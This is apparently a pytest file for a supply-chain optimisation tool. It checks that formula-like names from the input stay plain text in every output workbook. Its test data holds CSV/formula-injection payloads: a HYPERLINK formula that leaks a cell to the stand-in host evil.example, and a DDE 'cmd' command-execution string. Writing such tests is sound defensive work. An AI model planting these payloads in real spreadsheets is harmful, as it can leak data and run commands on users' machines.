"""Formula injection: text from the input never becomes a formula in any workbook supplyopt writes.

Node, commodity, corridor, recipe, period, upgrade, disruption and scenario names and the free-text
columns (names, regions, descriptions, currency note) are set to spreadsheet-formula look-alikes:
text starting with '=', '+', '-', '@' (and error codes like '#N/A'). The instance is solved and every
output workbook is written through the CLI: results (base and scenario), Diagnosis-free compare,
sweep, stress and frontier. Every cell of every output must be a value, never a formula (openpyxl
sees the stored cell type); text that a spreadsheet would take for a formula when the planner edits
the cell carries Excel's quote prefix in the results workbook. Then LibreOffice (headless, its own
user profile) opens and re-saves every output: a cell it took for a formula would come back with a
formula; none may.

Text starting with a tab or a carriage return cannot come from the input (every text cell is
stripped when read), so the writer's guard for those is checked on a results workbook built
directly.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import uuid
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from supplyopt.cli import app
from supplyopt.io.results_workbook import read_results_workbook, write_results_workbook
from supplyopt.io.template import write_template
from supplyopt.results import Results

MINE = '=HYPERLINK("http://evil.example/?leak="&A1,"mine")'
REF = "+REF+1"
PORT = "-PORT"
HUB = "@HUB"
CONC = "=CONC"
CU = "+CU"
SMELT = "=SMELT()"
P1 = "=P1"
MR, RP, MH, HP = "=M-R", "-R-P", "@M-H", "+H-P"
UPGRADE = "=UP()"
CUT = "=CUT"
SCENARIO = '=HYPERLINK("http://evil.example","scenario")'
TEXT = {
    "node name": "=1+1",
    "region": "-Balochistan",
    "commodity name": "=2+2",
    "corridor name": "=cmd|' /C calc'!A0",
    "disruption description": "+cut by floods",
    "scenario description": "@copper up",
    "currency": "=USD",
}
FORMULA_LIKE = [MINE, REF, PORT, HUB, CONC, CU, SMELT, P1, MR, RP, MH, HP, UPGRADE, CUT, SCENARIO, *TEXT.values()]


def formula_records() -> dict:
    """A mine -> refinery -> port chain with a hub, every name and free text formula-like."""
    road = {"mode": "road", "bidirectional": False}
    return {
        "Settings": [
            {"name": "objective", "value": "npv"},
            {"name": "discount_rate", "value": 0},
            {"name": "disruptions", "value": "yes"},
            {"name": "currency_note", "value": TEXT["currency"]},
        ],
        "Periods": [{"period": P1, "start_year": 2030}],
        "Commodities": [{"commodity": CONC, "name": TEXT["commodity name"], "kind": "concentrate"}, {"commodity": CU, "kind": "refined"}],
        "Nodes": [
            {"node": MINE, "kind": "mine", "name": TEXT["node name"], "region": TEXT["region"], "lat": 29.0, "lon": 64.0},
            {"node": REF, "kind": "refinery", "lat": 27.0, "lon": 65.0},
            {"node": HUB, "kind": "hub", "lat": 28.0, "lon": 66.0},
            {"node": PORT, "kind": "port", "lat": 25.1, "lon": 62.3},
        ],
        "Corridors": [
            {"corridor": MR, "name": TEXT["corridor name"], "from_node": MINE, "to_node": REF, "distance_km": 200, "cost_usd_per_tkm": 0.05, **road},
            {"corridor": RP, "from_node": REF, "to_node": PORT, "distance_km": 100, "cost_usd_per_tkm": 0.05, "capacity_t_per_yr": 500, **road},
            {"corridor": MH, "from_node": MINE, "to_node": HUB, "distance_km": 150, "cost_usd_per_tkm": 0.05, **road},
            {"corridor": HP, "from_node": HUB, "to_node": PORT, "distance_km": 150, "cost_usd_per_tkm": 0.06, **road},
        ],
        "Mines": [{"mine": MINE, "commodity": CONC, "max_t_per_yr": 2000, "cost_usd_per_t": 40}],
        "Refineries": [{"site": REF, "open_capex_usd": 30000, "module_size_t_per_yr": 1000, "module_capex_usd": 5000, "max_modules": 2}],
        "Recipes": [{"recipe": SMELT, "input_commodity": CONC, "cost_usd_per_t": 25}],
        "RecipeOutputs": [{"recipe": SMELT, "output_commodity": CU, "yield": 0.3}],
        "Ports": [{"port": PORT, "handling_usd_per_t": 4}],
        "Markets": [{"node": PORT, "commodity": CONC, "price_usd_per_t": 90}, {"node": PORT, "commodity": CU, "price_usd_per_t": 500}],
        "Upgrades": [{"upgrade": UPGRADE, "element_type": "corridor", "element": RP, "capex_usd": 1000, "added_capacity_t_per_yr": 500}],
        "CorridorRisk": [{"corridor": HP, "incident_probability": 0.001, "risk_score": 5, "security_cost_usd_per_t": 1}],
        "Disruptions": [{"disruption": CUT, "probability": 0.1, "description": TEXT["disruption description"]}],
        "DisruptionFactors": [{"disruption": CUT, "element_type": "corridor", "element": MR, "factor": 0}],
        "Scenarios": [
            {
                "scenario": SCENARIO,
                "description": TEXT["scenario description"],
                "table": "Markets",
                "key": f"{PORT} | {CU} | ",
                "column": "price_usd_per_t",
                "operation": "scale",
                "value": "1.5",
            }
        ],
    }


def formula_cells(path: Path) -> list[str]:
    """'sheet!A1: =...' for every formula cell of every worksheet."""
    wb = openpyxl.load_workbook(path)  # not read-only, not data_only: formulas show as data_type 'f'
    found = [f"{ws.title}!{c.coordinate}: {c.value!r}" for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    wb.close()
    return found


def text_cells(path: Path) -> set[str]:
    wb = openpyxl.load_workbook(path, read_only=True)
    found = {str(v) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row if isinstance(v, str)}
    wb.close()
    return found


@pytest.fixture(scope="module")
def outputs(tmp_path_factory) -> dict[str, Path]:
    """Every output workbook, written through the CLI from the formula-named input."""
    d = tmp_path_factory.mktemp("injection")
    src = write_template(d / "input.xlsx", formula_records())
    runner = CliRunner()

    def cli(*args: str) -> None:
        res = runner.invoke(app, list(args))
        assert res.exit_code == 0, (args, res.output, repr(res.exception))

    cli("solve", str(src), "-o", str(d / "plan.xlsx"))
    cli("solve", str(src), "--scenario", "all", "-o", str(d / "scenarios"))
    cli("compare", str(d / "scenarios"), "-o", str(d / "comparison.xlsx"))
    cli("sweep", str(src), "--serial", "-o", str(d / "sweep.xlsx"))
    cli("stress", str(d / "plan.xlsx"), "--input", str(src), "-o", str(d / "stress.xlsx"))
    cli("frontier", str(src), "--points", "2", "-o", str(d / "frontier.xlsx"))
    found = {
        p.stem: p
        for p in [d / "plan.xlsx", *sorted((d / "scenarios").glob("*.xlsx")), *(d / f"{n}.xlsx" for n in ("comparison", "sweep", "stress", "frontier"))]
    }
    assert len(found) >= 7, found
    return found


def test_input_text_reaches_the_outputs(outputs):
    """Sanity: the formula-like names are really in the outputs (as text)."""
    everything = set().union(*(text_cells(p) for p in outputs.values()))
    missing = [s for s in FORMULA_LIKE if not any(s in t for t in everything)]
    assert not [s for s in missing if s in (MINE, REF, PORT, CONC, CU, MR, RP, SCENARIO)], missing


def test_no_output_cell_is_a_formula(outputs):
    """Results (plan and per scenario), comparison, sweep, stress and frontier workbooks: no formula
    cell. (The comparison's header cells, named after the input's scenarios, were formulas until
    98524e1.)"""
    for name, path in outputs.items():
        assert formula_cells(path) == [], name


def test_results_workbook_marks_formula_like_text(outputs):
    """In the results workbook, text that a spreadsheet would re-read as a formula when the cell is
    edited has the quote prefix (Excel's 'this is text' flag)."""
    wb = openpyxl.load_workbook(outputs["plan"])
    checked = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@")) and c.value in FORMULA_LIKE:
                    assert c.data_type == "s" and c.quotePrefix, f"{ws.title}!{c.coordinate} {c.value!r}"
                    checked += 1
    assert checked > 10


def test_tab_and_carriage_return_and_error_codes_stay_text(tmp_path):
    """The results writer's guard for text starting with tab or CR (which Excel may also take for a
    formula start) and for error codes, on a results workbook built directly; read back equal."""
    values = ["\tTAB", "\rCR", "=1+1", "+1", "-1", "@A1", "#N/A", "#REF!", "plain"]
    res = Results({"Flows": pd.DataFrame({"corridor": values, "t_per_yr": range(len(values))})}, {"status": "optimal", "note": "=2+2"})
    out = write_results_workbook(res, tmp_path / "r.xlsx")
    assert formula_cells(out) == []
    wb = openpyxl.load_workbook(out)
    cells = {c.value: c for row in wb["Flows"].iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    for v in values:
        assert v in cells and cells[v].data_type == "s", v
        if v[0] in "=+-@\t\r":
            assert cells[v].quotePrefix, v
    back = read_results_workbook(out)
    assert list(back["Flows"]["corridor"]) == values
    assert back.summary["note"] == "=2+2"


@pytest.mark.libreoffice
def test_libreoffice_reads_no_formula(outputs, tmp_path):
    """LibreOffice headless opens and re-saves every output as .xlsx (and the results workbook as
    CSV): no cell comes back as a formula, and the formula-like names are still text."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    profile = tmp_path / f"lo-profile-{uuid.uuid4().hex}"
    out = tmp_path / "converted"
    env = {**os.environ, "HOME": str(tmp_path)}
    base = [soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore"]
    proc = subprocess.run(
        [*base, "--convert-to", "xlsx", "--outdir", str(out), *map(str, outputs.values())], capture_output=True, text=True, timeout=240, env=env
    )
    assert proc.returncode == 0, proc.stderr
    for name in outputs:
        converted = out / f"{name}.xlsx"
        assert converted.exists(), (name, proc.stdout, proc.stderr)
        # LibreOffice stores yes/no cells as =TRUE()/=FALSE(): formulas, but not from the input
        assert [f for f in formula_cells(converted) if not f.endswith(("'=TRUE()'", "'=FALSE()'"))] == [], name
    texts = set().union(*(text_cells(out / f"{n}.xlsx") for n in outputs))
    for s in (MINE, REF, PORT, CONC, CU, MR, RP):
        assert s in texts, s
    csv_dir = tmp_path / "csv"
    proc = subprocess.run([*base, "--convert-to", "csv", "--outdir", str(csv_dir), str(outputs["plan"])], capture_output=True, text=True, timeout=240, env=env)
    assert proc.returncode == 0, proc.stderr
    summary_csv = (csv_dir / "plan.csv").read_text(encoding="utf-8", errors="replace")  # first sheet: Summary
    opened = read_results_workbook(outputs["plan"]).summary["refineries_open"]
    assert opened == REF  # the refinery named '+REF+1' opens ...
    assert REF in summary_csv  # ... and LibreOffice shows the name, not the sum of a formula
